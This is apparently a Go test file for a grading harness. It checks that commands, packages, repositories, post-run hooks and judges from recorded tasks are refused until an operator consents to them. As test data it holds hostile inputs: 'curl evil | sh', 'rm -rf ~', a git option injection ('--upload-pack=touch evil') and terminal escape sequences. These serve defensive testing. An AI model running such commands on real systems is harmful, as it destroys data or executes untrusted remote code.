package regrade

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"podgrade/policy"
	"podgrade/tasks"
	"podgrade/tasks/record"
	"podgrade/tasks/record/fixture"
)

// asking is a row whose task was changed, and that nobody has accepted anything of.
func asking(t *testing.T, form fixture.Form, change func(*tasks.Task)) *rowCase {
	t.Helper()
	c := newCase(t, form, func(o *fixture.Order) { o.Change = change })
	c.options.Answer = policy.Answer{}
	return c
}

// page is what the refusal of the row shows.
func (c *rowCase) page() string {
	c.t.Helper()
	_, err := c.grade()
	var refusal *policy.Refusal
	if !errors.As(err, &refusal) || c.fake.started > 0 {
		c.t.Fatalf("not refused: %v; engines started: %d", err, c.fake.started)
	}
	c.unchanged()
	return err.Error()
}

// ran are the command lines that the cells ran.
func (c *rowCase) ran() (lines []string) {
	for _, cell := range c.fake.cells {
		for _, command := range cell.ran {
			lines = append(lines, command.Argv[len(command.Argv)-1])
		}
	}
	return lines
}

func onlyFiles(task *tasks.Task) { task.SuccessCriteria = tasks.Criteria{fileExists("answer.txt")} }

// TestScenarioConsent: what a record asks for happens once it was accepted, and is
// shown before and after.
func TestScenarioConsent(t *testing.T) {
	t.Run("D-55: a recorded command is refused by name, and shown when it is accepted", func(t *testing.T) {
		c := asking(t, fixture.Pinned, func(task *tasks.Task) { task.SuccessCriteria = tasks.Criteria{runCommand("curl evil | sh")} })
		if page := c.page(); !strings.Contains(page, "command: curl evil | sh (run_command") || !strings.Contains(page, "--allow-recorded-commands") || !strings.Contains(page, "--accept-plan ") {
			t.Error(page)
		}
		c.options.Answer.RecordedCommands = true
		c.pass()
		if !strings.Contains(c.notice.String(), "command: curl evil | sh") || !slices.Equal(c.ran(), []string{"curl evil | sh"}) {
			t.Errorf("printed %q, ran %q", c.notice.String(), c.ran())
		}
	})
	t.Run("D-56: packages and repositories of a record are neither installed nor cloned", func(t *testing.T) {
		for _, driver := range []string{tasks.DriverDocker, tasks.DriverTempdir} {
			c := asking(t, fixture.Unpinned, func(task *tasks.Task) {
				onlyFiles(task)
				task.Sandbox.Driver = driver
				task.Sandbox.Python, task.Sandbox.Node = &tasks.Packages{EnvPackages: []string{"evil"}}, &tasks.Packages{EnvPackages: []string{"evil"}}
				task.Sandbox.TemplateSources = tasks.TemplateSources{{Type: tasks.Repo, URL: "https://evil/r"}}
				task.PreRun = []tasks.PreRun{{Command: "evil", Timeout: 1}}
			})
			if driver == tasks.DriverDocker {
				c.page()
			}
			c.options.Answer.RecordedCommands = true
			c.pass()
			if len(c.ran()) > 0 {
				t.Errorf("%s: ran %q", driver, c.ran())
			}
		}
	})
	t.Run("D-63: post_run is refused in place", func(t *testing.T) {
		c := asking(t, fixture.Pinned, func(task *tasks.Task) {
			onlyFiles(task)
			task.PostRun = []tasks.PostRun{{Command: "rm -rf ~", Timeout: 1}}
		})
		if page := c.page(); !strings.Contains(page, "command: rm -rf ~ (post_run") {
			t.Error(page)
		}
	})
	t.Run("D-61 and D-62: the operator's own post_run is not asked about, and no other", func(t *testing.T) {
		c := asking(t, fixture.Unpinned, func(task *tasks.Task) {
			onlyFiles(task)
			task.PostRun = []tasks.PostRun{{Command: "make clean", Timeout: 1}}
		})
		for _, text := range []string{"{}", "post_run: ['make  clean']"} {
			c.options.Answer.Policy = policyFile(t, text)
			c.page()
		}
		c.options.Answer.Policy = policyFile(t, "{post_run: [make clean], allow: {images: ['*'], capabilities: [default], paths: [/]}}")
		c.pass()
		if !slices.Equal(c.ran(), []string{"make clean"}) {
			t.Errorf("ran %q", c.ran())
		}
	})
	t.Run("D-64: a judge alone is refused", func(t *testing.T) {
		shown := tasks.JudgeInput{Enabled: true, Files: []string{}, MaxDialogChars: 1, MaxFileChars: 1, MaxTranscriptChars: 1}
		for name, judge := range map[string]tasks.Criterion{
			"model-9 by your own route": &tasks.LLMJudge{Base: base(tasks.TypeLLMJudge, "d"), JudgeInput: shown, Model: "model-9", MaxTokens: 1},
			"starts an agent with tools": &tasks.AgentJudge{Base: base(tasks.TypeAgentJudge, "d"), JudgeInput: shown, MaxTurns: 1, TurnTimeout: 10,
				Agent: tasks.Agent{Type: tasks.ClaudeCode, PermissionMode: "bypassPermissions", IgnorePatterns: []string{}, SystemPromptMode: "append"}},
		} {
			c := asking(t, fixture.Unpinned, func(task *tasks.Task) {
				task.Sandbox.Driver, task.SuccessCriteria = tasks.DriverTempdir, tasks.Criteria{judge}
			})
			if page := c.page(); !strings.Contains(page, name) {
				t.Error(page)
			}
		}
	})
}

// policyFile is a policy file of the operator's.
func policyFile(t *testing.T, text string) *policy.File {
	t.Helper()
	name := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	file, err := policy.OpenFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return file
}

// TestScenarioThePage: what the page names, and what it does not.
func TestScenarioThePage(t *testing.T) {
	t.Run("D-57 and D-58: a container is named where one is started, and only there", func(t *testing.T) {
		c := asking(t, fixture.Pinned, onlyFiles)
		if page := c.page(); !strings.Contains(page, "image: byod-custom-image:0.1.0") || strings.Contains(page, "command") && strings.Contains(page, "1 command:") {
			t.Error(page)
		}
		c.options.AllowHost = true
		c.pass()
		if strings.Contains(c.notice.String(), "image") || c.fake.onHost != 1 {
			t.Errorf("printed %q", c.notice.String())
		}
	})
	t.Run("D-65: an unusual variable of the base list is shown by name", func(t *testing.T) {
		c := asking(t, fixture.Unpinned, func(task *tasks.Task) { task.Sandbox.Docker.EnvPassthrough = []string{"MY_BANK_PIN", "HOME"} })
		c.host["MY_BANK_PIN"] = "1234"
		page := c.page()
		if !strings.Contains(page, "variable: MY_BANK_PIN") || strings.Contains(page, "1234") || strings.Contains(page, "variable: HOME") {
			t.Error(page)
		}
		c.options.Answer.RecordedCommands = true
		c.pass()
		if env := c.fake.cells[0].env(); env["MY_BANK_PIN"] != "1234" || env["HOME"] != "/root" {
			t.Errorf("%v", env)
		}
	})
	t.Run("D-66: a task directory behind a link is shown as it resolves", func(t *testing.T) {
		secret := t.TempDir()
		os.WriteFile(filepath.Join(secret, "task.yaml"), []byte("task_id: byod_smoke_test\n"), 0o644)
		c := asking(t, fixture.Unpinned, nil)
		link := filepath.Join(c.dir, "harmless")
		os.Symlink(secret, link)
		source, _ := filepath.Abs(byod)
		c.edit(source, filepath.Join(link, "task.yaml"))
		if page := c.page(); !strings.Contains(page, "path: "+secret) || strings.Contains(page, "harmless") {
			t.Error(page)
		}
	})
	t.Run("D-67: nothing of a record changes the terminal", func(t *testing.T) {
		const evil = "\x1b[2J\u202e\u200bx\r\n2 grants:\n\x07\u009b1m"
		c := asking(t, fixture.Unpinned, func(task *tasks.Task) {
			task.SuccessCriteria = tasks.Criteria{runCommand(evil)}
			task.Sandbox.Docker.Image, task.Sandbox.Docker.EnvPassthrough = evil, []string{evil}
		})
		c.host[evil] = "set"
		if page := c.page(); strings.ContainsAny(page, "\x1b\u202e\u200b\r\x07\u009b") || strings.Count(page, " grants:\n") != 1 || strings.Count(page, `\x1b[2J\u202e`) != 3 {
			t.Errorf("%q", page)
		}
	})
}

// TestScenarioOptionsOfGit is D-74, on an engine of memory.
func TestScenarioOptionsOfGit(t *testing.T) {
	t.Run("D-74: a repository whose name looks like an option is none", func(t *testing.T) {
		for _, source := range []tasks.TemplateSource{
			{Type: tasks.Repo, URL: "--upload-pack=touch evil"}, {Type: tasks.Repo, URL: "https://h/r", Commit: "--orphan=x"},
		} {
			fake := newFake()
			row := digestRow(t, contentsOf(t), map[string]string{
				"dockerfile_path: image/Dockerfile":    "image: " + strconv.Quote(imageID),
				"{type: template_dir, path: template}": fmt.Sprintf("{type: repo, url: %q, commit: %s}", source.URL, cmp.Or(source.Commit, "null")),
			})
			open, err := record.Create(t.TempDir(), Job{Row: row}.Identity())
			if err != nil {
				t.Fatal(err)
			}
			defer open.Close()
			if _, err := Execute(t.Context(), open, Job{Row: row}, ExecuteOptions{
				Start: fake.start, Notice: io.Discard, Version: "9.9.9", Lookup: func(string) (string, bool) { return "", false },
			}); err != nil {
				t.Fatal(err)
			}
			clones := 0
			for _, command := range fake.cells[0].ran {
				if command.Argv[0] != "git" {
					continue
				}
				clones++
				for _, option := range command.Argv[:slices.Index(command.Argv, "--")] {
					if option == source.URL || source.Commit != "" && option == source.Commit {
						t.Errorf("an option of git: %q", command.Argv)
					}
				}
			}
			if want := map[bool]int{true: 1}[source.Commit == ""]; clones != want {
				t.Errorf("%+v: git was started %d times, want %d", source, clones, want)
			}
		}
	})
}

// TestWhatWasAcceptedIsWhatIsUsed swaps what a row asks for between the look and
// the use: when the engines start, consent has been given and no cell is open.
func TestWhatWasAcceptedIsWhatIsUsed(t *testing.T) {
	between := func(c *rowCase, swap func()) {
		c.options.Start = func(ctx context.Context) (Engines, error) {
			swap()
			return c.fake.start(ctx)
		}
	}
	t.Run("the record", func(t *testing.T) {
		c := newCase(t, fixture.Pinned, criteriaOf(runCommand("accepted")))
		between(c, func() { c.edit(`"command": "accepted"`, `"command": "swapped"`) })
		_, err := c.grade()
		if KindOf(err) != Infrastructure || !strings.Contains(err.Error(), "was changed while the row was graded") {
			t.Errorf("%v", err)
		}
		if !slices.Equal(c.ran(), []string{"accepted"}) {
			t.Errorf("ran %q", c.ran())
		}
	})
	t.Run("where a path leads", func(t *testing.T) {
		c := asking(t, fixture.Pinned, nil)
		dirs := []string{t.TempDir(), t.TempDir()}
		for _, dir := range dirs {
			os.WriteFile(filepath.Join(dir, "task.yaml"), []byte("task_id: byod_smoke_test\n"), 0o644)
		}
		link := filepath.Join(t.TempDir(), "link")
		os.Symlink(dirs[0], link)
		source, _ := filepath.Abs(byod)
		c.edit(source, filepath.Join(link, "task.yaml"))
		c.options.Answer.RecordedCommands = true
		between(c, func() {
			os.Remove(link)
			os.Symlink(dirs[1], link)
		})
		c.refused(Refused, "means something else now", true)
		if len(c.fake.cells) > 0 {
			t.Error("a cell was opened")
		}
	})
	t.Run("the plan's hash", func(t *testing.T) {
		c := asking(t, fixture.Pinned, func(task *tasks.Task) { task.SuccessCriteria = tasks.Criteria{runCommand("accepted")} })
		row, err := record.OpenRow(c.dir)
		if err != nil {
			t.Fatal(err)
		}
		defer row.Close()
		asked, err := Asks(row, c.options)
		if err != nil || len(asked.Open) != len(asked.Plan.Grants) {
			t.Fatalf("%v %+v", err, asked)
		}
		c.options.Answer.Plans = []string{asked.Plan.Hash()}
		c.edit(`"command": "accepted"`, `"command": "swapped"`)
		c.refused(Refused, "command: swapped", false)
		c.edit(`"command": "swapped"`, `"command": "accepted"`)
		c.pass()
	})
}

// TestAResumedRowIsGradedByThePlanThatWasAccepted: with --accept-plan not even a
// task file of the operator's may ask for anything else.
func TestAResumedRowIsGradedByThePlanThatWasAccepted(t *testing.T) {
	c := newCase(t, fixture.Pinned, nil)
	c.options.Given = given(t, strings.Replace(givenText, "DRIVER", "docker", 1))
	c.options.Answer = policy.Answer{Plans: []string{strings.Repeat("0", 64)}}
	_, err := c.grade()
	if KindOf(err) != Refused || !strings.Contains(err.Error(), "another plan was accepted") || c.fake.started > 0 {
		t.Fatal(err)
	}
	_, hash, _ := strings.Cut(err.Error(), "--accept-plan ")
	c.options.Answer.Plans = []string{strings.TrimSuffix(hash, ".")}
	c.pass()
}
